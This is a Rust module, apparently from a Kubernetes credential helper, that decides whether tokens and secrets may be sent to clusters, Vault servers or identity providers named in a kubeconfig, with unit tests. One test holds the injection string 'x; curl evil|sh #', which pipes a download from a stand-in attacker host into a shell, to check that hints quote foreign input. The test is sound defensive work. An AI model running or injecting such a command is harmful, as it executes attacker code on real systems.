//! Where a token or a Vault session may go, and the refusal where nobody allowed it.
//!
//! A kubeconfig is foreign input: it may choose among what a person set up, and it may not send a
//! secret to a new place. This module judges; [`crate::memory`] keeps what a person accepted and
//! what was served first, as SSH remembers a host.

mod error;

use std::collections::BTreeSet;

pub use error::{Difference, Mend, TrustError};

use crate::cluster::{self, Cluster, KnownCluster};
use crate::config::{ClusterPin, NamedBy, Pem, Provider, TokenExchange, VaultSettings};
use crate::keys;
use crate::memory::Remembered;

/// A cluster that the settings pin a profile to, its CA read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Pin {
    /// The cluster. Without a CA the first one seen at this server is remembered.
    pub cluster: KnownCluster,
    /// `insecureSkipTlsVerify: allow`.
    pub insecure: bool,
    /// `withoutClusterInfo: allow`.
    pub without_cluster_info: bool,
}

impl Pin {
    /// Reads a pin of the settings, its CA included.
    ///
    /// # Errors
    /// [`TrustError::Pin`] where the CA cannot be read.
    pub fn of(pin: &ClusterPin) -> Result<Self, TrustError> {
        let flaw = |flaw| TrustError::Pin { server: pin.server.to_string(), flaw };
        let authorities = match &pin.certificate_authority {
            None => BTreeSet::new(),
            Some(Pem::Inline(text)) => cluster::fingerprints(text.as_bytes()).map_err(flaw)?,
            Some(Pem::File(path) | Pem::Folder(path)) => {
                cluster::read_authority(path).and_then(|pem| cluster::fingerprints(&pem)).map_err(flaw)?
            }
        };
        let server = cluster::normalised(pin.server.as_str()).map_err(flaw)?;
        Ok(Self {
            cluster: KnownCluster { server, authorities },
            insecure: pin.insecure_skip_tls_verify,
            without_cluster_info: pin.without_cluster_info,
        })
    }
}

/// What may be done with a profile's token.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    /// It may go to this cluster.
    Known,
    /// It may go, and this cluster is to be remembered as the profile's first.
    First(KnownCluster),
}

/// Judges whether a profile's token may go to `cluster` (none: the client did not say).
///
/// # Errors
/// The refusal, which names the profile's own clusters. The caller fills in `context`.
pub fn judge(
    pins: &[Pin],
    remembered: &[&Remembered],
    cluster: Option<&Cluster>,
) -> Result<Verdict, TrustError> {
    let remembered: Vec<&KnownCluster> =
        remembered.iter().filter(|known| known.counts_beside(pins)).map(|known| &known.cluster).collect();
    judge_among(pins, &remembered, cluster)
}

fn judge_among(
    pins: &[Pin],
    remembered: &[&KnownCluster],
    cluster: Option<&Cluster>,
) -> Result<Verdict, TrustError> {
    let Some(cluster) = cluster else {
        let allowed = pins.is_empty() || pins.iter().any(|pin| pin.without_cluster_info);
        return if allowed { Ok(Verdict::Known) } else { Err(TrustError::NoClusterInfo) };
    };
    if cluster.insecure {
        // Security: without verification the server's name is all there is, and anybody can answer
        // to it; only a pin that says so accepts that.
        let allowed = pins.iter().any(|pin| pin.insecure && pin.cluster.is_at(&cluster.server));
        let server = cluster.server.clone();
        return if allowed { Ok(Verdict::Known) } else { Err(TrustError::TlsOff { server }) };
    }
    if remembered.iter().any(|known| cluster.is(known)) || pins.iter().any(|pin| cluster.is(&pin.cluster)) {
        return Ok(Verdict::Known);
    }
    // A pin that names no CA: the first one seen at its server becomes the pinned one.
    let pinned_server_only =
        pins.iter().any(|pin| pin.cluster.authorities.is_empty() && pin.cluster.is_at(&cluster.server));
    let seen_before = remembered.iter().any(|known| known.is_at(&cluster.server));
    if (pins.is_empty() && remembered.is_empty()) || (pinned_server_only && !seen_before) {
        return Ok(Verdict::First(cluster.to_known()));
    }
    Err(other_cluster(pins, remembered, cluster))
}

fn other_cluster(pins: &[Pin], remembered: &[&KnownCluster], cluster: &Cluster) -> TrustError {
    let known: Vec<&KnownCluster> =
        pins.iter().map(|pin| &pin.cluster).chain(remembered.iter().copied()).collect();
    let same_server = known.iter().any(|known| known.is_at(&cluster.server));
    let difference = if same_server && cluster.tls_server_name.is_none() {
        Difference::Authority
    } else {
        Difference::Server
    };
    let mut servers: Vec<&str> = known.iter().map(|known| known.server.as_str()).collect();
    servers.dedup();
    TrustError::OtherCluster {
        server: cluster.server.clone(),
        known: servers.join(", "),
        difference,
        context: None,
    }
}

/// Judges a client that does not say which cluster it is for, while a flag of its does.
///
/// Security: the flag may be the kubeconfig's words and the client go elsewhere, so it can only
/// take away: a pinned profile still needs `withoutClusterInfo: allow`.
///
/// # Errors
/// The refusal.
pub fn judge_claim(pins: &[Pin], remembered: &[&Remembered], server: &str) -> Result<(), TrustError> {
    judge(pins, remembered, None)?;
    let server = cluster::normalised(server).map_err(TrustError::Cluster)?;
    let remembered: Vec<&KnownCluster> = remembered.iter().map(|known| &known.cluster).collect();
    let known = pins.iter().map(|pin| &pin.cluster).chain(remembered.iter().copied());
    let mut known = known.peekable();
    if known.peek().is_none() || known.any(|known| known.is_at(&server)) {
        return Ok(());
    }
    let claimed = Cluster {
        server,
        authorities: BTreeSet::new(),
        tls_server_name: None,
        insecure: false,
        authority_pem: None,
    };
    Err(other_cluster(pins, &remembered, &claimed))
}

/// Judges whether a Vault may be sent a session, a password or a workload's JWT.
///
/// # Errors
/// [`TrustError::UnknownVault`] where only a flag names it and nobody logged in there.
pub fn judge_vault(
    vault: &VaultSettings,
    logged_in: &[String],
    foreign: &[String],
) -> Result<(), TrustError> {
    let address = vault.address.to_string();
    let identity = keys::vault_identity(vault);
    match vault.named_by {
        NamedBy::Settings | NamedBy::Environment => Ok(()),
        NamedBy::Flag if logged_in.contains(&identity) => Ok(()),
        NamedBy::Flag => Err(TrustError::UnknownVault { address, foreign: foreign.to_vec() }),
    }
}

/// Judges whether the service of an exchange may be sent a workload's JWT or a client's secret.
///
/// # Errors
/// [`TrustError::UnknownService`] where only a file that a flag names says so.
pub fn judge_service(named_by: NamedBy, exchange: &TokenExchange) -> Result<(), TrustError> {
    match named_by {
        NamedBy::Settings | NamedBy::Environment => Ok(()),
        NamedBy::Flag => {
            let places = [&exchange.host, &exchange.token_endpoint, &exchange.authority_host];
            let address = places.into_iter().flatten().next().map(url::Url::to_string);
            let address = address.or_else(|| exchange.issuer.as_ref().map(ToString::to_string));
            let address = address.unwrap_or_else(|| format!("`{}`", exchange.preset.name()));
            Err(TrustError::UnknownService { address })
        }
    }
}

/// Judges whether a provider may be sent a client's secret, a code or a refresh token.
///
/// # Errors
/// [`TrustError::UnknownProvider`] where only a flag names it and nobody logged in there.
pub fn judge_provider(
    provider: &Provider,
    logged_in: &[String],
    foreign: &[String],
) -> Result<(), TrustError> {
    match provider.named_by {
        NamedBy::Settings | NamedBy::Environment => Ok(()),
        NamedBy::Flag if logged_in.contains(&keys::provider_identity(provider)) => Ok(()),
        NamedBy::Flag => {
            let issuer = provider.issuer.as_str().to_owned();
            Err(TrustError::UnknownProvider { issuer, foreign: foreign.to_vec() })
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error::{ExitCode, Explain as _};

    fn cluster(server: &str, authority: &str) -> Cluster {
        let authorities = if authority.is_empty() { BTreeSet::new() } else { [authority.to_owned()].into() };
        Cluster {
            server: server.into(),
            authorities,
            tls_server_name: None,
            insecure: false,
            authority_pem: None,
        }
    }

    fn first(cluster: &Cluster) -> Remembered {
        Remembered { cluster: cluster.to_known(), accepted: false }
    }

    fn pin(server: &str, authority: &str) -> Pin {
        Pin { cluster: cluster(server, authority).to_known(), insecure: false, without_cluster_info: false }
    }

    const PROD: &str = "https://prod:6443";
    const EVIL: &str = "https://evil:6443";

    #[test]
    fn the_first_cluster_is_remembered_and_the_second_refused() {
        let prod = cluster(PROD, "ca");
        assert_eq!(judge(&[], &[], Some(&prod)), Ok(Verdict::First(prod.to_known())));
        assert_eq!(judge(&[], &[&first(&prod)], Some(&prod)), Ok(Verdict::Known));
        let refusal = judge(&[], &[&first(&prod)], Some(&cluster(EVIL, "evil"))).unwrap_err();
        assert_eq!(
            refusal.to_string(),
            "refused to hand this token to https://evil:6443: it belongs to https://prod:6443"
        );
        assert_eq!(refusal.why().as_deref(), Some("the kubeconfig names another server"));
        assert_eq!(
            refusal.hint().as_deref(),
            Some("{program} trust{profile}{source}{config} --context CONTEXT")
        );
        assert_eq!(refusal.exit_code(), ExitCode::Withheld);
    }

    #[test]
    fn a_hint_holds_foreign_words_as_one_word_each() {
        let foreign = "x; curl evil|sh #";
        let refusal = TrustError::OtherCluster {
            server: EVIL.into(),
            known: PROD.into(),
            difference: Difference::Server,
            context: Some(foreign.into()),
        };
        assert!(refusal.hint().is_some_and(|hint| hint.contains(" --context 'x; curl evil|sh #'")));
        let refusal = TrustError::UnknownVault { address: format!("https://{foreign}"), foreign: vec![] };
        let hint = refusal.hint();
        assert!(hint.is_some_and(|hint| hint.contains(" --vault-address 'https://x; curl evil|sh #'")));
    }

    #[test]
    fn a_pinned_profile_goes_nowhere_else() {
        let pins = [pin(PROD, "ca")];
        assert_eq!(judge(&pins, &[], Some(&cluster(PROD, "ca"))), Ok(Verdict::Known));
        assert_eq!(judge(&pins, &[], Some(&cluster("https://10.0.0.1:443", "ca"))), Ok(Verdict::Known));
        assert!(judge(&pins, &[], Some(&cluster(EVIL, "ca-evil"))).is_err());
        let swapped = judge(&pins, &[], Some(&cluster(PROD, "ca-evil"))).unwrap_err();
        assert_eq!(swapped.why().as_deref(), Some("the kubeconfig names another certificate authority"));
        let evil = cluster(EVIL, "ca-evil");
        let accepted = Remembered { accepted: true, ..first(&evil) };
        assert_eq!(judge(&pins, &[&accepted], Some(&evil)), Ok(Verdict::Known), "`trust` is a person's word");
    }

    #[test]
    fn a_pin_that_comes_later_closes_what_was_remembered_before() {
        let old = cluster("https://old:6443", "old");
        let refusal = judge(&[pin(PROD, "ca")], &[&first(&old)], Some(&old)).unwrap_err();
        assert!(matches!(refusal, TrustError::OtherCluster { .. }));
    }

    #[test]
    fn a_pin_without_a_ca_takes_the_first_ca_of_its_server_and_keeps_it() {
        let pins = [pin(PROD, "")];
        let prod = cluster(PROD, "ca");
        assert_eq!(judge(&pins, &[], Some(&prod)), Ok(Verdict::First(prod.to_known())));
        assert!(judge(&pins, &[&first(&prod)], Some(&cluster(PROD, "evil"))).is_err());
        assert!(judge(&pins, &[], Some(&cluster(EVIL, "evil"))).is_err());
    }

    #[test]
    fn verification_switched_off_is_refused_unless_the_pin_of_that_server_allows_it() {
        let mut insecure = cluster(PROD, "");
        insecure.insecure = true;
        let refusal = judge(&[], &[], Some(&insecure)).unwrap_err();
        assert_eq!(
            refusal.to_string(),
            "refused to hand this token to https://prod:6443: TLS verification is switched off"
        );
        assert!(judge(&[], &[&first(&insecure)], Some(&insecure)).is_err());
        let mut allowing = pin(PROD, "ca");
        allowing.insecure = true;
        assert_eq!(judge(&[allowing.clone()], &[], Some(&insecure)), Ok(Verdict::Known));
        insecure.server = EVIL.into();
        assert!(judge(&[allowing], &[], Some(&insecure)).is_err());
    }

    #[test]
    fn a_client_that_names_no_cluster_is_served_by_unpinned_profiles_only() {
        assert_eq!(judge(&[], &[&first(&cluster(PROD, "ca"))], None), Ok(Verdict::Known));
        let mut pinned = pin(PROD, "ca");
        let refusal = judge(&[pinned.clone()], &[], None).unwrap_err();
        assert_eq!(
            refusal.to_string(),
            "refused to hand out this token: the client did not say which cluster it is for"
        );
        pinned.without_cluster_info = true;
        assert_eq!(judge(&[pinned], &[], None), Ok(Verdict::Known));
    }
}
